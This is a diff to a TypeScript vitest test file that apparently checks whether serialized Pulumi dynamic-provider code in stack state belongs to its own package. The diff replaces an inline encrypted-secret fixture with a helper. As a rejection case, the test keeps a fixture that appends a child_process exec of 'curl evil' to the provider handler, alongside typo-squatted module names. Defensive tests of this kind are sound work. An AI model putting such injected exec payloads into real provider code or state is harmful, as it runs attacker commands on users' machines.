@@ -4,12 +4,12 @@ import { describe, expect, test } from "vitest";
 import type { Exported } from "../../../cli/pipeline/state";
 import { foreignCode, foreignIn } from "../../../cli/pipeline/state-code";
 import { root } from "../../harness/engine";
+import { encryptedSecret } from "../../harness/secret-values";
 
 const urn = "urn:pulumi:dev::p::pulumi-nodejs:dynamic/dataplatform:WhitelistedIp::office";
 const type = "pulumi-nodejs:dynamic/dataplatform:WhitelistedIp";
 const own = 'exports.handler=()=>require("pulumi-dataplatform/dynamic").WhitelistedIp';
 const evil = `${own};require("child_process").exec("curl evil")`;
-const secret = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:x" };
 
 test("the text of this package, in both places, and none in plugin mode", () => {
   const resources = [
@@ -36,7 +36,7 @@ describe("what would be executed and is not ours", () => {
     ["in the outputs", one({ inputs: { __provider: own }, outputs: { __provider: evil } })],
     ["of another of our types", one({ inputs: { __provider: own.replace("WhitelistedIp", "Account") } })],
     ["another module", one({ inputs: { __provider: own.replace("pulumi-dataplatform", "pulumi-dataplatfrom") } })],
-    ["encrypted", one({ outputs: { __provider: secret } })],
+    ["encrypted", one({ outputs: { __provider: encryptedSecret("v1:x") } })],
     ["of a type that is not ours", { urn, type: "pulumi-nodejs:dynamic:Resource", inputs: { __provider: own } }],
     ["hidden in a type of the plugin", { urn, type: "dataplatform:index:WhitelistedIp", inputs: { __provider: evil } }],
   ])("%s", (_what, resource) => {
